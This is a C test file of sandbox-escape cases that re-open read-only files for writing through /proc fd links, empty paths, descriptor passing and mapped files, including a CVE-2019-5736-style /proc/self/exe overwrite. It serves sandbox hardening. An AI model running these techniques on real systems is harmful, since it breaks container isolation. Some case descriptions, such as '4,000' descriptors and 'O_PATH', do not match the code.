// Re-opening what one has: a link of /proc, or an empty path, must not give more than the descriptor behind it; and a lower
// file must be known as one for as long as any guest may still hold it.
#define CLASS "reopen"
#include "attack.h"
#include <sys/prctl.h>
#include <sys/xattr.h>
#include <termios.h>

static const char *link_(int fd) {
    static char text[64];
    snprintf(text, sizeof text, "/proc/self/fd/%d", fd);
    return text;
}
ATTACK(stdin_truncate, change, 0, "open(/proc/self/fd/0, O_RDONLY|O_TRUNC) of a host file on standard input") {
    say("open", open("/proc/self/fd/0", O_RDONLY | O_TRUNC));
}
ATTACK(stdin_write, change, 0, "open(/proc/self/fd/0) for writing") {
    deface(open("/proc/self/fd/0", O_RDWR));
    deface(open("/proc/self/fd/0", O_WRONLY));
}
ATTACK(stdin_dev, change, 0, "open(/dev/stdin, /dev/fd/0) for writing and O_TRUNC") {
    deface(open("/dev/stdin", O_WRONLY | O_TRUNC));
    deface(open("/dev/fd/0", O_RDWR | O_CREAT, 0666));
}
ATTACK(stdin_thread, change, 0, "the same through /proc/thread-self/fd, /proc/PID/fd and /proc/PID/task/TID/fd") {
    char text[96];
    deface(open("/proc/thread-self/fd/0", O_RDWR));
    snprintf(text, sizeof text, "/proc/%d/fd/0", getpid()), deface(open(text, O_RDWR));
    snprintf(text, sizeof text, "/proc/%d/task/%d/fd/0", getpid(), getpid()), deface(open(text, O_RDWR));
}
ATTACK(stdin_openat2, change, 0, "the same by openat2, with and without resolve flags") {
    struct {
        uint64_t flags, mode, resolve;
    } how = {O_RDWR | O_TRUNC, 0, 0};
    deface((int)syscall(437, AT_FDCWD, "/proc/self/fd/0", &how, sizeof how));
    how.resolve = 1, deface((int)syscall(437, AT_FDCWD, "/proc/self/fd/0", &how, sizeof how));
}
ATTACK(stdin_truncate_call, change, 0, "truncate(2) of /proc/self/fd/0") { say("truncate", truncate("/proc/self/fd/0", 1)); }
ATTACK(stdin_chmod, change, 0, "chmod of /proc/self/fd/0, fchmod, fchmodat2 with an empty path") {
    say("fchmod", fchmod(0, 0600));
    say("chmod", chmod("/proc/self/fd/0", 0640));
    say("fchmodat2", syscall(452, 0, "", 0604, AT_EMPTY_PATH));
}
ATTACK(stdin_chown, change, NATIVE_ROOT, "chown of /proc/self/fd/0, fchown, fchownat with an empty path") {
    say("fchown", fchown(0, 1, 1));
    say("chown", chown("/proc/self/fd/0", 2, 2));
    say("fchownat", fchownat(0, "", 3, 3, AT_EMPTY_PATH));
}
ATTACK(stdin_times, change, 0, "utimensat of /proc/self/fd/0 and of a null path") {
    struct timespec t[2] = {{1, 0}, {1, 0}};
    say("futimens", futimens(0, t));
    say("utimensat", utimensat(AT_FDCWD, "/proc/self/fd/0", t, 0));
    say("utimensat", utimensat(0, "", t, AT_EMPTY_PATH));
}
ATTACK(stdin_xattr, change, 0, "setxattr of /proc/self/fd/0, fsetxattr") {
    say("fsetxattr", fsetxattr(0, "user.x", "1", 1, 0));
    say("setxattr", setxattr("/proc/self/fd/0", "user.y", "1", 1, 0));
}
ATTACK(stdin_link, change, WRITABLE_BIND, "linkat of standard input into a writable bind, then a write to the link") {
    say("linkat", linkat(0, "", AT_FDCWD, in("/rw/linked"), AT_EMPTY_PATH));
    say("linkat", linkat(AT_FDCWD, "/proc/self/fd/0", AT_FDCWD, in("/rw/linked"), AT_SYMLINK_FOLLOW));
    if (!inside) say("link", link(out("stdin"), in("/rw/linked")));
    deface(open(in("/rw/linked"), O_WRONLY));
}
ATTACK(stdin_child, change, 0, "a child re-opens its parent's standard input through /proc/PPID/fd/0") {
    pid_t child = forked();
    if (child == 0) {
        char text[64];
        snprintf(text, sizeof text, "/proc/%d/fd/0", getppid());
        deface(open(text, O_RDWR));
        _exit(0);
    }
    waitpid(child, NULL, 0);
}
ATTACK(passed_fd_write, change, PASSED_FD, "a read-only descriptor passed by --fd, re-opened for writing") {
    deface(open("/proc/self/fd/9", O_RDWR | O_TRUNC));
    say("truncate", open("/proc/self/fd/9", O_TRUNC));
}
ATTACK(stdin_exec_write, change, 0, "standard input handed to another program that re-opens it") {
    pid_t child = forked();
    if (child == 0) {
        dup2(0, 7);
        deface(open(link_(7), O_RDWR));
        _exit(0);
    }
    waitpid(child, NULL, 0);
}
ATTACK(terminal_reopened, change, STDIN_TERMINAL, "a terminal on standard input, open for reading only, re-opened for writing") {
    const char *ways[] = {"/proc/self/fd/0", "/dev/stdin", "/dev/fd/0"};
    for (int i = 0; i < 3; i++) {
        int fd = open(ways[i], O_RDWR | O_NOCTTY);
        say(ways[i], fd);
        say("write", write(fd, "PTY-WRITTEN\n", 12));
    }
}
ATTACK(exe_overwritten, change, 0, "/proc/self/exe opened by O_PATH, written to once something else runs (CVE-2019-5736)") {
    char text[64], *const arguments[] = {"x", NULL}, page[65536];
    int fd = open("/proc/self/exe", O_RDONLY), from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int copy = open(in("/tmp/copy"), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0777);
    for (ssize_t got; (got = read(from, page, sizeof page)) > 0;)
        if (write(copy, page, (size_t)got) != got) break;
    close(copy);
    // No process executes the program any more once this process runs a copy, which writes through the descriptor.
    snprintf(text, sizeof text, "/proc/self/fd/%d", fd);
    setenv("ESCAPE_WRITER", text, 1);
    execv(in("/tmp/copy"), arguments);
}
// A lower file's descriptor in flight, while so many files are made that its node would be forgotten.
static void forgotten(bool many) {
    int pair[2], fds[2] = {open(in("/lower/victim"), O_RDONLY), open(in("/ro/victim"), O_RDONLY)};
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) return;
    for (int i = 0; i < 2; i++) {
        char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 'x';
        struct iovec vector = {&byte, 1};
        struct mmsghdr message = {{.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control}, 0};
        struct cmsghdr *header = CMSG_FIRSTHDR(&message.msg_hdr);
        header->cmsg_level = SOL_SOCKET, header->cmsg_type = SCM_RIGHTS, header->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(header), &fds[i], sizeof(int));
        say("send", many ? syscall(SYS_sendmmsg, pair[0], &message, 1, 0) : sendmsg(pair[0], &message.msg_hdr, 0));
        close(fds[i]);
    }
    char name[64];
    for (int i = 0; inside && i < 4300; i++) {
        snprintf(name, sizeof name, "/tmp/made-%d", i);
        close(open(in(name), O_WRONLY | O_CREAT, 0600));
    }
    for (int i = 0; i < 2; i++) {
        int fd = receiveDescriptor(pair[1]);
        say("received", fd);
        say("truncate", open(link_(fd), O_RDONLY | O_TRUNC));
        deface(open(link_(fd), O_RDWR));
        say("fchmod", fchmod(fd, 0600));
    }
}
ATTACK(forgotten_sendmmsg, change, 0, "a lower file in flight by sendmmsg while 4,300 files are made, then re-opened with O_TRUNC") { forgotten(true); }
ATTACK(forgotten_sendmsg, change, 0, "the same by sendmsg") { forgotten(false); }
ATTACK(forgotten_mapping, change, 0, "a lower file held by a mapping only, then re-opened through /proc/self/map_files; natively through its path") {
    int fd = open(in("/lower/victim"), O_RDONLY);
    char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0), name[96];
    close(fd);
    for (int i = 0; inside && i < 4300; i++) {
        snprintf(name, sizeof name, "/tmp/made-%d", i);
        close(open(in(name), O_WRONLY | O_CREAT, 0600));
    }
    snprintf(name, sizeof name, "/proc/self/map_files/%lx-%lx", (unsigned long)p, (unsigned long)p + 4096);
    deface(open(inside ? name : in("/lower/victim"), O_RDWR));
    say("mprotect", mprotect(p, 4096, PROT_READ | PROT_WRITE));
}
ATTACK(forgotten_unlinked, change, 0, "a lower file unlinked, its node forgotten, its descriptor re-opened") {
    int fd = open(in("/lower/victim"), O_RDONLY), copy = dup(fd);
    char name[64];
    unlink(in("/lower/victim"));
    close(fd);
    for (int i = 0; inside && i < 4300; i++) {
        snprintf(name, sizeof name, "/tmp/made-%d", i);
        close(open(in(name), O_WRONLY | O_CREAT, 0600));
    }
    deface(open(link_(copy), O_RDWR | O_TRUNC));
}
ATTACK(noatime, change, 0, "O_NOATIME, O_DIRECT, O_SYNC and F_SETFL on a re-opened lower file; natively with a write to show the way") {
    int fd = open(link_(open(in("/lower/victim"), O_RDONLY)), O_RDONLY | O_NOATIME | O_SYNC);
    say("F_SETFL", fcntl(fd, F_SETFL, O_APPEND | O_NONBLOCK | O_DIRECT));
    deface(open(link_(fd), inside ? O_RDONLY : O_RDWR));
}
ATTACK(in_flight_many, change, 0, "4,000 lower descriptors in flight in 16 socket pairs, closed, received, re-opened for writing") {
    int pairs[16][2];
    for (int i = 0; i < 16; i++) {
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pairs[i]) != 0) return;
        for (int n = 0; n < 8; n++) {
            int fd = open(in(n % 2 ? "/lower/victim" : "/ro/victim"), O_RDONLY);
            sendDescriptors(pairs[i][0], &fd, 1);
            close(fd);
        }
    }
    char name[64];
    for (int i = 0; inside && i < 4300; i++) {
        snprintf(name, sizeof name, "/tmp/made-%d", i);
        if (mkdir(in(name), 0700)) break;
    }
    for (int i = 0; i < 16; i++)
        for (int n = 0; n < 8; n++) {
            int fd = receiveDescriptor(pairs[i][1]);
            deface(open(link_(fd), O_RDWR));
            close(fd);
        }
}
